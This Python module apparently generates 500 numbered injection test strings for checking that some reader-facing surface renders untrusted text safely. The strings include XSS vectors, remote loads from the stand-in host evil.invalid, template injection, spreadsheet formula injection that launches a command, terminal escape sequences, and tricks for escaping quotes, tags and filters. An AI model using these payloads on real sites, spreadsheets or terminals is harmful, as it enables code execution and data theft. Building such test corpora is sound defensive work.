"""Five hundred texts that want to run, draw, load or lead away where responders read them. Each says its number where it succeeds. Pure."""

from __future__ import annotations

# {n}: the payload's number.
VECTORS = (
    "<script>hit({n})</script>",
    '<script src="http://evil.invalid/{n}.js"></script>',
    '<img src="x" onerror="hit({n})">',
    "<img src=http://evil.invalid/{n}.gif>",
    "<svg onload=hit({n})>",
    "<svg><script>hit({n})</script></svg>",
    '<svg><animate onbegin="hit({n})" attributeName="x" dur="1s"></svg>',
    '<svg><use href="http://evil.invalid/{n}.svg#x"/></svg>',
    '<svg><a xlink:href="javascript:hit({n})"><text y="20">press</text></a></svg>',
    '<math><mtext><img src="x" onerror="hit({n})"></mtext></math>',
    '<iframe src="javascript:hit({n})"></iframe>',
    '<iframe srcdoc="<script>parent.hit({n})</script>"></iframe>',
    "<object data=http://evil.invalid/{n}></object>",
    "<embed src=http://evil.invalid/{n}>",
    '<link rel="stylesheet" href="http://evil.invalid/{n}.css">',
    "<style>@import 'http://evil.invalid/{n}.css';</style>",
    "<style>body{{background:url(http://evil.invalid/{n})}}</style>",
    '<base href="http://evil.invalid/{n}/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.invalid/{n}">',
    '<form action="http://evil.invalid/{n}"><button>Send</button></form>',
    '<input autofocus onfocus="hit({n})">',
    '<details open ontoggle="hit({n})">x</details>',
    '<video autoplay onloadstart="hit({n})"><source src="http://evil.invalid/{n}.mp4"></video>',
    '<audio src="x" onerror="hit({n})"></audio>',
    '<body onpageshow="hit({n})">',
    '<div style="background:url(http://evil.invalid/{n})">x</div>',
    '<p onmouseover="hit({n})" style="position:fixed;inset:0">x</p>',
    '<a href="javascript:hit({n})">press</a>',
    '<a href="http://evil.invalid/{n}" ping="http://evil.invalid/ping{n}">press</a>',
    "[press](javascript:hit({n}))",
    "![picture](http://evil.invalid/{n}.png)",
    "[picture]: http://evil.invalid/{n}",
    "<http://evil.invalid/{n}>",
    "http://evil.invalid/{n}",
    "{{{{constructor.constructor('hit({n})')()}}}}",
    "${{hit({n})}}",
    "{{% set x = hit({n}) %}}{{{{ config }}}}",
    '=HYPERLINK("http://evil.invalid/{n}","press")',
    "=cmd|' /C calc'!A{n}",
    '@SUM(1)*IMPORTXML("http://evil.invalid/{n}","//a")',
    "\x1b]8;;http://evil.invalid/{n}\x1b\\press\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[31mgone {n}\x1b[0m\x9b2J",
)
# How each stands: as it is, or after what is meant to close the place in which it stands, or written so that a filter misses it.
FRAMES = (
    "{}",
    '">{}',
    "'>{}",
    "</p>{}",
    "</textarea>{}",
    "</title></style>{}",
    "</script>{}",
    "-->{}<!--",
    "<![CDATA[{}]]>",
    "&lt;/q&gt;{}",
    "\u202e{}\u202c",
    "<scr<script></script>{}",
)


def payloads(count: int = 500) -> list[str]:
    """So many, no two alike; every vector before the next frame."""
    pairs = [(vector, frame) for frame in FRAMES for vector in VECTORS]
    return [frame.replace("{}", vector.format(n=number)) for number, (vector, frame) in enumerate(pairs[:count])]
